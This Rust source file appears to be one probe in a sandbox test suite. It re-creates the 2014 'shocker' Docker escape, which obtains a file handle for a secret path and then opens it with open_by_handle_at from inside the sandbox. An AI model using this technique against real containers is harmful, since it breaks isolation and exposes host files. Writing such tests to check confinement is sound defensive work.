//! A file of the host is opened by its inode number, which no mount hides.
//!
//! The "shocker" exploit of Docker (2014): `open_by_handle_at(2)` takes any descriptor on
//! the file system, and handles are easy to guess. It needs `CAP_DAC_READ_SEARCH`.

use crate::calls::call;
use crate::{Answer, Args, Probe, Scene};
use birdcage::Exception;
use std::ffi::CString;
use std::fs::File;
use std::os::fd::AsFd;

pub(crate) const PROBE: Probe = Probe::new("no file is opened by its handle", &[18, 24], attack)
    .scene(scene)
    .stopped_by(&["EPERM"])
    .inapplicable_if(&[("EPERM", "it takes CAP_DAC_READ_SEARCH, which we have not")]);

/// Up to 128 bytes, after their number and a type.
type Handle = [u32; 34];

fn scene(scene: &mut Scene) {
    let secret = CString::new(scene.secret().into_os_string().into_encoded_bytes());
    let work = scene.scratch().directory("work");
    let mut handle: Handle = [0; 34];
    handle[0] = 128;
    let (path, mount) = (secret.expect("a path"), &mut 0_i32);
    let words = [
        libc::AT_FDCWD.into(),
        path.as_c_str().into(),
        (&mut handle).into(),
        mount.into(),
        0.into(),
    ];
    call(libc::SYS_name_to_handle_at, &words).expect("a handle");
    scene.tell("handle", handle.map(|word| word.to_string()).join(","));
    scene.tell("work", work.display());
    scene.allow(Exception::Read(work));
}

fn attack(args: &Args) -> Answer {
    let mut handle: Handle = [0; 34];
    let words = args.text("handle").split(',');
    for (word, text) in handle.iter_mut().zip(words) {
        *word = text.parse().expect("a number");
    }
    let work = File::open(args.path("work"))?;
    let words = [
        work.as_fd().into(),
        (&mut handle).into(),
        libc::O_RDONLY.into(),
    ];
    let number = call(libc::SYS_open_by_handle_at, &words)?;
    Ok(format!("descriptor {number}"))
}
